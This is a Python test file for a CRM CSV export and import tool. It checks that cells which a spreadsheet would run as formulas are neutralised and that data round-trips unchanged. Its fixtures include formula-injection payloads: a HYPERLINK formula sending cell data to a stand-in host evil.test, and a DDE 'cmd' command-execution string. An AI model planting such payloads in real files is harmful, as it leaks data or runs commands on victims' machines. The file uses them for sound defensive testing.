"""Text of strangers runs in no spreadsheet, and comes back from CSV as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from zcrm_tools.crm.org import Org
from zcrm_tools.errors import InvalidInput
from zcrm_tools.safety.gate import Gate
from zcrm_tools.testing import ZohoOrg
from zcrm_tools.transfer import export, forms, formulas, importing, incoming, intake, wanted

TEXTS = st.text(st.sampled_from("'=+-@\t\r\n\0＝1 (.)xeA|!\",;") | st.characters(codec="utf-8"), max_size=12)
EVIL = '=HYPERLINK("http://evil.test?x="&A1;"open")'


class Killed(BaseException):
    """What happens to a process, here."""


@given(TEXTS)
@example("''=1")
@example("'+49 30 1")
def test_every_text_comes_back_and_none_begins_a_formula(text: str):
    safe = formulas.guarded(text)
    assert formulas.bare(safe) == text
    assert safe in (text, f"'{text}")
    if safe[:1] and safe[0] in formulas.STARTS:
        assert not set(safe) & set("=@|!\"'&A\t\r\n\0"), "nothing to call, fetch or look up"


@pytest.mark.parametrize(
    "text",
    ["-5", "-1.5e-7", "-5 %".replace(" ", ""), "+49 30 901820", "+1-555-0100", "+1 (555) 010-0100 x12", "-", "a=b", "'s Gravenhage"],
)  # fmt: skip
def test_numbers_telephone_numbers_and_plain_text_are_not_spoiled(text: str):
    assert formulas.guarded(text) == text


@pytest.mark.parametrize(
    "text", [EVIL, "+A1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\0=1", "＝1+1", "- call"]
)
def test_what_a_spreadsheet_would_run_is_held(text: str):
    assert formulas.guarded(text) == f"'{text}"


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), max_size=4), st.sampled_from(",;\t"))
def test_cells_with_quotes_and_line_ends_of_any_kind_are_read_back(rows: list[list[str]], delimiter: str):
    written = forms.csv_text(rows, delimiter).decode()
    assert list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter)) == rows


async def test_an_export_is_safe_to_open_and_imported_it_changes_nothing(
    org: Org, gate: Gate, zoho_org: ZohoOrg, tmp_path: Path
):
    made: list[dict[str, Any]] = [
        {"Last_Name": EVIL, "Phone": "+49 30 901820", "Annual_Revenue": -5, "Description": "one\rtwo\r\n- three"},
        {"Last_Name": "'=1", "Company": "@home", "Description": "'quoted'"},
    ]  # fmt: skip
    ids = [str(one) for one in zoho_org.seed("Leads", made)]
    before = [zoho_org.record("Leads", one) for one in ids]
    fields = ("Last_Name", "Company", "Phone", "Annual_Revenue", "Description")
    files = {}
    for exact in (False, True):
        files[exact] = tmp_path / f"leads-{exact}.csv"
        asked = await wanted.checked(
            org, "Leads", files[exact], fields=fields, where="id in ('{}','{}')".format(*ids), exact=exact
        )
        report = await export.run(asked)
        assert report.guarded == (0 if exact else 3)
        with files[exact].open(newline="") as lines:
            first = next(csv.DictReader(lines))
        assert first["Last_Name"] == (EVIL if exact else f"'{EVIL}")
        assert (first["Phone"], first["Annual_Revenue"]) == ("+49 30 901820", "-5")
        rows = incoming.open_file(files[exact], exact=exact)
        report_in = await importing.run(
            await intake.checked(org, "Leads", rows, mode="update"), gate, by="me"
        )
        assert report_in.counts == {"unchanged": 2}
    assert [zoho_org.record("Leads", one) for one in ids] == before


async def test_pages_that_were_kept_for_a_spreadsheet_are_not_mixed_with_exact_ones(
    org: Org, tmp_path: Path, small_pages: None
):
    file = tmp_path / "leads.csv"

    def stop(_: Any) -> None:
        raise Killed

    for exact, other in ((False, True), (True, False)):
        asked = await wanted.checked(org, "Leads", file, fields=["Last_Name"], exact=exact)
        with pytest.raises(Killed):
            await export.run(asked, progress=stop)
        changed = await wanted.checked(org, "Leads", file, fields=["Last_Name"], exact=other)
        with pytest.raises(InvalidInput, match="another export"):
            await export.run(changed)
        await export.run(asked)


def test_refused_rows_are_written_as_they_were_in_the_file(tmp_path: Path):
    file = tmp_path / "leads.csv"
    file.write_bytes(b'Last Name,Email\n\'=1,nowhere\n"a\rb",nowhere,more\n')
    rows = incoming.open_file(file)
    assert [row["Last Name"] for _, row in rows.rows()] == ["=1", "a\rb"]
    target = incoming.place_for_refused(file)
    rows.write_refused(target, {2: "no", 3: "no"})
    assert (
        target.read_bytes() == b'Last Name,Email,Rejected because\n\'=1,nowhere,no\n"a\rb",nowhere,no,more\n'
    )
